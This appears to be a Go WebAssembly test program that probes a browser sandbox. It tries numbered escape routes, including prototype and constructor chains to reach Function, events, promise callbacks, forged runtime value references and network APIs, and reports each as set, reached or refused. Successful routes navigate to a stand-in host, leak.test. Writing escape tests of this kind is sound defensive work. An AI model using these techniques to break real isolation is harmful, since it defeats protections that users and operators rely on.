// Command hostile is a program in the place of the app's or the engine's, which tries to
// reach a window's location, another realm or the network by syscall/js. It is told a number
// by quasi.place in a page, such as workshop=1007, or by the first message in a worker: it
// tries the way of that number, counted in thousands, or with lecturer=1007 and "1007 on"
// that and all that follow, one after the other. With the number before it, it says
//
//	tries NAME    when it begins
//	has set       once it has set what it looked for: a gate that refuses that says so
//	reached       once it has used what it looked for
//	refused: WHY  when it could not go on
//	is no way     when there is no way of that number
package main

import (
	"fmt"
	"strconv"
	"strings"
	"syscall/js"
	"time"
	"unsafe"
)

// place is "worker" in a program that is to be the engine's.
var place = "page"

func main() {
	if place == "worker" {
		global.Set("onmessage", js.FuncOf(func(_ js.Value, args []js.Value) any {
			if asked := args[0].Get("data").Get("request"); asked.Truthy() {
				number, all := strings.CutSuffix(asked.String(), " on")
				go try(number, all)
			}
			return nil
		}))
	} else {
		kind, number, _ := strings.Cut(get("quasi", "place").String(), "=")
		go try(number, kind == "lecturer")
	}
	select {}
}

// global is the global object, which a program has without asking.
var global = js.Global()

var (
	number string // the attempt's
	to     string // the address of the attempt
)

// way is an attempt. What it can't do panics.
type way struct {
	name string
	try  func()
}

// called is how long JavaScript has to call what a way has given it, before the next way.
const called = 30 * time.Millisecond

// try tries the way of a number, and with all those after it.
func try(asked string, all bool) {
	n, err := strconv.Atoi(asked)
	if err != nil {
		return
	}
	// The thousands tell apart the places in which it is tried.
	for at := n % 1000; at <= len(ways); at++ {
		number = strconv.Itoa(n)
		if at == len(ways) {
			said("is no way")
			return
		}
		to = fmt.Sprintf("http://m%05dz.leak.test/", n)
		said("tries " + ways[at].name)
		attempt(ways[at])
		if !all {
			return
		}
		time.Sleep(called)
		n++
	}
	said("is no way")
}

func attempt(w way) {
	defer refused()
	w.try()
}

// said writes a line by the runtime: fmt asks JavaScript for it.
func said(what string) { println(number + " " + what) }

func hasSet() { said("has set") }

func reached() { said("reached") }

func refused() {
	if reason := recover(); reason != nil {
		said(fmt.Sprint("refused: ", reason))
	}
}

// leaves sends a window to the address.
func leaves(window js.Value) { goes(window.Get("location")) }

// goes sends a location to the address.
func goes(location js.Value) {
	location.Set("href", to)
	hasSet()
}

// holds uses a function that was found: a program that has it can call it.
func holds(f js.Value) {
	if text := f.Call("toString").String(); strings.Contains(text, "native code") {
		reached()
	}
}

func get(names ...string) js.Value {
	v := global
	for _, name := range names {
		v = v.Get(name)
	}
	return v
}

// calls has JavaScript call a function with what it calls it with.
func calls(f func(this js.Value, args []js.Value)) js.Func {
	return js.FuncOf(func(this js.Value, args []js.Value) any {
		defer refused()
		f(this, args)
		return nil
	})
}

// first leaves by the window that a function is called with.
func first() js.Func { return calls(func(_ js.Value, args []js.Value) { leaves(args[0]) }) }

// self leaves by the window that a function is called on.
func self() js.Func { return calls(func(this js.Value, _ []js.Value) { leaves(this) }) }

// heard leaves by what an event of the window leads to.
func heard(lead func(event js.Value) js.Value) func() {
	return func() {
		global.Call("addEventListener", "way", calls(func(_ js.Value, args []js.Value) { leaves(lead(args[0])) }))
		global.Call("dispatchEvent", get("Event").New("way"))
	}
}

func named(name string) func(js.Value) js.Value {
	return func(v js.Value) js.Value { return v.Get(name) }
}

func array(all ...any) js.Value { return js.ValueOf(all) }

func object(name string, value any) js.Value { return js.ValueOf(map[string]any{name: value}) }

// held is what stands at a place of the program's table of values, asked for or not.
func held(id uint64) js.Value {
	var v js.Value
	*(*uint64)(unsafe.Pointer(&v)) = 0x7FF80001<<32 | id
	return v
}

// program is the object by which syscall/js makes functions, which it keeps to itself.
func program() js.Value { return held(6) }

func descriptor(name string) js.Value {
	return get("Object").Call("getOwnPropertyDescriptor", global, name)
}

var ways = []way{
	// A location by a name.
	{"location", func() { goes(get("location")) }},
	{"location is set", func() { global.Set("location", to); hasSet() }},
	{"document.location", func() { goes(get("document", "location")) }},
	{"document.location is set", func() { get("document").Set("location", to); hasSet() }},
	{"location.assign", func() { get("location").Call("assign", to); reached() }},
	{"location.replace", func() { get("location").Call("replace", to); reached() }},
	{"location.search is set", func() { get("location").Set("search", to); hasSet() }},
	{"location.valueOf", func() { goes(get("location").Call("valueOf")) }},
	{"window", func() { leaves(get("window")) }},
	{"self", func() { leaves(get("self")) }},
	{"frames", func() { leaves(get("frames")) }},
	{"globalThis", func() { leaves(get("globalThis")) }},
	{"document.defaultView", func() { leaves(get("document", "defaultView")) }},
	{"parent", func() { get("parent").Call("postMessage", to, "*"); reached() }},
	{"top", func() { get("top").Call("postMessage", to, "*"); reached() }},
	{"ownerDocument", func() { goes(get("document", "body", "ownerDocument", "location")) }},
	{"getRootNode", func() { goes(get("document", "body").Call("getRootNode").Get("location")) }},
	{"parentNode", func() { goes(get("document", "documentElement", "parentNode", "location")) }},
	{"parentElement up to the document", func() { leaves(get("document", "documentElement", "parentNode", "defaultView")) }},
	{"the global object's valueOf", func() { leaves(global.Call("valueOf")) }},
	// What takes objects apart.
	{"Reflect.set", func() { get("Reflect").Call("set", global, "location", to); reached() }},
	{"Reflect.get", func() { goes(get("Reflect").Call("get", global, "location")) }},
	{"Object.assign", func() { get("Object").Call("assign", global, object("location", to)); reached() }},
	{"a descriptor's setter", func() { descriptor("location").Get("set").Call("call", global, to); reached() }},
	{"a descriptor's getter", func() { goes(descriptor("location").Get("get").Call("call", global)) }},
	{"Reflect.apply of a setter", func() {
		get("Reflect").Call("apply", descriptor("location").Get("set"), global, array(to))
		reached()
	}},
	{"__lookupSetter__", func() { global.Call("__lookupSetter__", "location").Call("call", global, to); reached() }},
	{"__lookupGetter__", func() { goes(global.Call("__lookupGetter__", "location").Call("call", global)) }},
	{"Object.values", func() { leaves(get("Object").Call("values", object("a", global)).Index(0)) }},
	{"Object.entries", func() { leaves(get("Object").Call("entries", object("a", global)).Index(0).Index(1)) }},
	{"Object.fromEntries", func() { leaves(get("Object").Call("fromEntries", array(array("a", global))).Get("a")) }},
	{"Object.getPrototypeOf", func() { holds(get("Object").Call("getPrototypeOf", global).Get("constructor")) }},
	{"Object.defineProperty", func() {
		get("Object").Call("defineProperty", global, "x", object("value", 1))
		reached()
	}},
	{"Object.getOwnPropertyDescriptors", func() {
		goes(get("Object").Call("getOwnPropertyDescriptors", global).Get("location").Get("get").Call("call", global))
	}},
	{"__proto__ of an object", func() {
		o := object("a", 1)
		o.Set("__proto__", get("document"))
		goes(get("Reflect").Call("get", o, "location", get("document")))
	}},
	{"Proxy", func() {
		goes(get("Proxy").New(get("document"), object("a", 1)).Get("valueOf").Call("call", get("document")).Get("location"))
	}},
	// Constructors, and what they lead to.
	{"constructor of the global object", func() { holds(global.Get("constructor")) }},
	{"constructor of a constructor", func() { holds(get("Object", "constructor")) }},
	{"constructor of an array's constructor", func() { holds(array(1).Get("constructor").Get("constructor")) }},
	{"constructor of a function", func() { holds(first().Get("constructor")) }},
	{"Function", func() { holds(get("Function")) }},
	{"eval", func() { holds(get("eval")) }},
	{"prototype", func() { holds(get("Array", "prototype", "slice")) }},
	{"call of a function", func() { holds(get("setTimeout").Get("call")) }},
	{"bind of a function", func() { holds(get("setTimeout").Call("bind", global)) }},
	{"WebAssembly", func() { holds(get("WebAssembly", "instantiate")) }},
	{"a worker of its own text", func() {
		url := get("URL").Call("createObjectURL", get("Blob").New(array("0"), object("type", "text/javascript")))
		get("Worker").New(url)
		reached()
	}},
	{"the program's values", func() { leaves(program().Get("_values").Index(5)) }},
	{"the program's imports", func() { holds(program().Get("importObject").Get("constructor")) }},
	{"the program's function maker", func() { holds(program().Get("_makeFuncWrapper").Get("constructor")) }},
	// Events.
	{"an event's target", heard(named("target"))},
	{"an event's currentTarget", heard(named("currentTarget"))},
	{"an event's srcElement", heard(named("srcElement"))},
	{"an event's path", heard(func(event js.Value) js.Value { return event.Call("composedPath").Index(0) })},
	{"an event's constructor", func() { holds(get("Event").New("way").Get("constructor")) }},
	{"an event's view", func() { leaves(get("UIEvent").New("way", object("view", global)).Get("view")) }},
	{"an event's data", func() { leaves(get("MessageEvent").New("way", object("data", global)).Get("data")) }},
	{"an event's detail", func() { leaves(get("CustomEvent").New("way", object("detail", global)).Get("detail")) }},
	{"a message's source", func() {
		global.Call("addEventListener", "message", calls(func(_ js.Value, args []js.Value) { leaves(args[0].Get("source")) }))
		global.Call("postMessage", "x", "*")
	}},
	{"a click's view", func() {
		body := get("document", "body")
		body.Call("addEventListener", "click", calls(func(_ js.Value, args []js.Value) { leaves(args[0].Get("view")) }))
		body.Call("dispatchEvent", get("MouseEvent").New("click", object("view", global)))
	}},
	// What JavaScript calls a function on, and with.
	{"a timer's this", func() { global.Call("setTimeout", self(), 1) }},
	{"a listener's this", func() {
		global.Call("addEventListener", "way", self())
		global.Call("dispatchEvent", get("Event").New("way"))
	}},
	{"forEach's this", func() { array(1).Call("forEach", self(), global) }},
	{"forEach's element", func() { array(global).Call("forEach", first()) }},
	{"map's element", func() { array(global).Call("map", first()) }},
	{"sort's elements", func() { array(global, 1).Call("sort", calls(func(_ js.Value, args []js.Value) { leaves(args[1]) })) }},
	{"reduce's element", func() { array(global, 1).Call("reduce", first()) }},
	{"a promise's value", func() { get("Promise").Call("resolve", global).Call("then", first()) }},
	{"a thenable", func() {
		thenable := object("then", calls(func(_ js.Value, args []js.Value) { args[0].Invoke(global) }))
		get("Promise").Call("resolve", thenable).Call("then", first())
	}},
	{"a promise's constructor", func() { holds(get("Promise").Call("resolve", 1).Get("constructor").Get("constructor")) }},
	{"a promise's executor", func() {
		get("Promise").New(calls(func(_ js.Value, args []js.Value) { holds(args[0].Get("constructor")) }))
	}},
	{"JSON.parse's reviver", func() {
		get("JSON").Call("parse", "1", calls(func(this js.Value, _ []js.Value) { holds(this.Get("constructor").Get("constructor")) }))
	}},
	// Elements and iterators.
	{"an array's element", func() { leaves(array(global).Index(0)) }},
	{"Array.of", func() { leaves(get("Array").Call("of", global).Index(0)) }},
	{"pop", func() { leaves(array(global).Call("pop")) }},
	{"at", func() { leaves(array(global).Call("at", 0)) }},
	{"an iterator", func() { leaves(array(global).Call("values").Call("next").Get("value")) }},
	{"an iterator's constructor", func() { holds(array(1).Call("values").Get("constructor").Get("constructor")) }},
	{"Map", func() { leaves(get("Map").New(array(array(1, global))).Call("get", 1)) }},
	{"WeakRef", func() { leaves(get("WeakRef").New(global).Call("deref")) }},
	{"an element of the global object's values", func() {
		names := get("Object").Call("getOwnPropertyNames", global)
		holds(get("Reflect").Call("get", global, names.Index(0)))
	}},
	// Errors.
	{"an error's constructor", func() {
		defer func() { holds(recover().(js.Error).Value.Get("constructor").Get("constructor")) }()
		get("document").Call("createElement", "%")
	}},
	{"an error's stack", func() {
		get("Error").Set("prepareStackTrace", calls(func(_ js.Value, args []js.Value) { holds(args[1].Index(0).Get("constructor").Get("constructor")) }))
		get("Error").New("x").Get("stack")
	}},
	// The network, which the policy forbids besides.
	{"fetch", func() { holds(get("fetch")) }},
	{"XMLHttpRequest", func() { holds(get("XMLHttpRequest")) }},
	{"WebSocket", func() { holds(get("WebSocket")) }},
	{"navigator.sendBeacon", func() { holds(get("navigator", "sendBeacon")) }},
	{"importScripts", func() { holds(get("importScripts")) }},
	{"FontFace", func() { holds(get("FontFace")) }},
	{"a style's address", func() {
		get("document", "body", "style").Call("setProperty", "background-image", "url("+to+")")
		reached()
	}},
	// By names that the app itself uses, as far as it can be.
	{"a resize's target", func() {
		global.Call("addEventListener", "resize", calls(func(_ js.Value, args []js.Value) { leaves(args[0].Get("target")) }))
		global.Call("dispatchEvent", get("Event").New("resize"))
	}},
	{"the global object's place in the table", func() { leaves(held(5)) }},
	{"a location that an object holds", func() { goes(object("value", get("location")).Get("value")) }},
	{"a location that an array holds", func() { goes(array(get("location")).Index(0)) }},
	{"a location that Object makes", func() { goes(get("Object").New(get("location"))) }},
	{"the global object that Object makes", func() { leaves(get("Object").New(global)) }},
	{"a function behind a name", func() { holds(get("document", "body", "closest")) }},
	// What else makes code.
	{"trustedTypes", func() { holds(get("trustedTypes", "createPolicy")) }},
	{"the lock's own functions", func() { get("quasi", "lock").Set("selfTest", first()); hasSet() }},
	{"the build's hashes", func() { get("quasi").Set("build", object("ran", "x")); hasSet() }},
}
